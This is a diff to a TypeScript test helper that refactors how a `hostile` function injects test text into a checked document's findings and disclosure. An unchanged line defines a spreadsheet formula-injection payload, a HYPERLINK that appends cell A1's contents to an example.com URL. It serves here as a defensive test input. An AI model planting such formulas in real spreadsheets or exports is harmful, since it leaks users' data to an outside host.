@@ -7,6 +7,7 @@ import { invariant } from "@jueming/core/document/invariant.ts";
 
 import type { CheckedFile } from "../../check.ts";
 import { prepareChecker } from "../../check.ts";
+import { keptDisclosure } from "../../kept-disclosure.ts";
 import { isFailure } from "../../read.ts";
 
 const SAMPLES = join(import.meta.dirname, "../../../../samples");
@@ -27,7 +28,7 @@ export const FORMULA = `=HYPERLINK("http://example.com?"&A1,"点击")`;
 
 /** The result with texts that would do harm where they are not taken for text. */
 export function hostile(result: CheckedFile, text: string): CheckedFile {
-  const { disclosure } = result;
+  const disclosure = result.disclosure();
   const findings = result.result.findings.map((finding): Finding => ({
     ...finding,
     subject: text,
@@ -38,7 +39,7 @@ export function hostile(result: CheckedFile, text: string): CheckedFile {
   }));
   return {
     source: text,
-    disclosure: {
+    ...keptDisclosure({
       ...disclosure,
       unit: { ...disclosure.unit, name: text },
       tables: disclosure.tables.map((table) => ({
@@ -51,7 +52,7 @@ export function hostile(result: CheckedFile, text: string): CheckedFile {
         section: text,
         sentence: `${text}${sentence.sentence}`,
       })),
-    },
+    }),
     result: { ...result.result, findings },
   };
 }
